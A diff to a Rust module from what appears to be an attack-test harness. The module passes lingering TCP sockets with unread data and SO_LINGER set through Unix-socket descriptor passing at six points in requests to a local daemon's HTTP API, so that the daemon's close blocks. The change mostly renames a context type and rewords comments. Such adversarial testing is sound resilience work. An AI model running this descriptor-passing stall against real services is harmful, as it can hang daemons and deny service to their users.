@@ -1,5 +1,5 @@
-//! Descriptors whose last close blocks: TCP sockets that linger over data that their peer never reads,
-//! passed at every place of a request where descriptors do not belong.
+//! Descriptors whose last close blocks: TCP sockets with `SO_LINGER` and data that their peer never reads.
+//! They are passed at every place of a request where no descriptor is expected.
 
 use std::collections::VecDeque;
 use std::io::{Read as _, Write as _};
@@ -13,18 +13,18 @@ use rustix::net::sockopt::{set_socket_linger, set_socket_recv_buffer_size, set_s
 
 use super::Begin;
 use crate::Outcome;
-use crate::ground::{Ground, request};
+use crate::context::{AttackContext, request};
 
 /// How long a close may block.
 const LINGER: Duration = Duration::from_secs(12);
-/// The kernel's least; it takes somewhat more.
+/// The kernel's minimum; it allocates somewhat more.
 const SMALL_BUFFER: usize = 4096;
 /// From one request to the next, of each kind.
 const PERIOD: Duration = Duration::from_millis(400);
-/// Peers that do not read: of those that linger still, and of no more.
+/// The most peers that are kept open without reading: enough for all sockets that still linger.
 const PEERS: usize = 64;
-/// How long an answer is waited for; it is not what this is about.
-const GLANCE: Duration = Duration::from_millis(200);
+/// How long the attacker waits for a response, which it does not need.
+const RESPONSE_TIMEOUT: Duration = Duration::from_millis(200);
 
 /// Where in a connection the descriptor is passed.
 #[derive(Clone, Copy, Debug)]
@@ -40,18 +40,18 @@ enum Place {
 const PLACES: [Place; 6] =
     [Place::FirstByte, Place::Head, Place::Body, Place::AfterRequest, Place::BeforeClose, Place::Frame];
 
-pub(crate) fn prepare(ground: &Ground) -> Outcome<Begin> {
-    let ground = ground.clone();
+pub(crate) fn prepare(context: &AttackContext) -> Outcome<Begin> {
+    let context = context.clone();
     Ok(Box::new(move || {
         for place in PLACES {
             let mut sockets = Sockets::listen()?;
-            ground.repeat(PERIOD, move |ground| {
+            context.repeat(PERIOD, move |context| {
                 let socket = sockets.make()?;
-                match pass(ground, place, &socket) {
-                    Ok(()) => ground.count("passed"),
+                match pass(context, place, &socket) {
+                    Ok(()) => context.count("passed"),
                     Err(_refused) => {
-                        ground.count("refused");
-                        // This close is the last then, and must not block the attacker.
+                        context.count("refused");
+                        // The daemon has no copy, so that this close is the last and must not block.
                         set_socket_linger(&socket, None)?;
                     }
                 }
@@ -62,7 +62,7 @@ pub(crate) fn prepare(ground: &Ground) -> Outcome<Begin> {
     }))
 }
 
-fn pass(ground: &Ground, place: Place, socket: &TcpStream) -> Outcome<()> {
+fn pass(context: &AttackContext, place: Place, socket: &TcpStream) -> Outcome<()> {
     let (get, fds) = (request("GET /v1/version HTTP/1.1\r\nConnection: close", ""), [socket.as_fd()]);
     let post = request("POST /v1/pull/plan HTTP/1.1\r\nConnection: close", &"x".repeat(64));
     // The descriptor comes with the first byte of the second part.
@@ -73,23 +73,23 @@ fn pass(ground: &Ground, place: Place, socket: &TcpStream) -> Outcome<()> {
         Place::AfterRequest => (get.as_str(), "x"),
         Place::BeforeClose => ("", "G"),
         Place::Frame => {
-            let stream = ground.upgrade("/v1/import", r#"{"file_name":"socket.gguf"}"#)?;
-            return crate::ground::pass_file(&stream, socket.as_fd());
+            let stream = context.upgrade("/v1/import", r#"{"file_name":"socket.gguf"}"#)?;
+            return crate::context::pass_file(&stream, socket.as_fd());
         }
     };
-    let mut stream: UnixStream = ground.connect()?;
+    let mut stream: UnixStream = context.connect()?;
     stream.write_all(before.as_bytes())?;
     let sent = send_message(&stream, with.as_bytes(), &fds)?;
     stream.write_all(with.as_bytes().get(sent..).unwrap_or_default())?;
     if !matches!(place, Place::BeforeClose) {
-        stream.set_read_timeout(Some(GLANCE))?;
-        // Whatever the answer is.
+        stream.set_read_timeout(Some(RESPONSE_TIMEOUT))?;
+        // The response does not matter.
         let _ = stream.read(&mut [0; 4096]);
     }
     Ok(())
 }
 
-/// Connected pairs, one end of which is never read.
+/// Connected pairs of sockets, of which one end never reads.
 struct Sockets {
     listener: TcpListener,
     peers: VecDeque<TcpStream>,
@@ -102,7 +102,7 @@ impl Sockets {
         Ok(Self { listener, peers: VecDeque::new() })
     }
 
-    /// A socket with more to send than its peer takes.
+    /// A socket with more unsent data than its peer's buffer holds.
     fn make(&mut self) -> Outcome<TcpStream> {
         let mut socket = TcpStream::connect(self.listener.local_addr()?)?;
         self.peers.push_back(self.listener.accept()?.0);
